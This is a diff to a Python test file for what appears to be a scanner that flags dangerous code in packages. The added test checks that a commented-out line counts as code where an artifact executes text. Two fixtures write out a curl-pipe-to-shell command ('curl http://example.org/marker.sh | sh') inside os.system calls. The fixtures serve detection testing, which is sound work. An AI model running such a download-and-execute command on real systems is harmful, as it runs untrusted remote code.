@@ -330,6 +330,13 @@ def test_only_prose_that_is_a_program_is_code_where_the_artifact_executes_text(
     assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download")) is counts
 
 
+def test_comments_in_newer_syntax_are_code_where_the_artifact_executes_text(rules: Ruleset) -> None:
+    notes = "# os.system(f'curl {'http://example.org/marker.sh'} | sh')\ntext = ''\n"
+    code = "from thing import notes\nexec(notes.text)\n"
+    inspection = look(wheel({"thing/notes.py": notes, "thing/use.py": code}), rules)
+    assert any(finding.role is Role.IMPORT for finding in found(inspection, "shell-pipes-download"))
+
+
 def test_newer_syntax_hides_no_code_from_the_rules_of_text(rules: Ruleset) -> None:
     # The columns of the rewritten line are others: whatever is cut out by them would be cut out of the wrong place.
     source = "import os\nx = f'{'a' * 99}'; 'prose'; os.system('curl http://example.org/marker.sh | sh')\n"
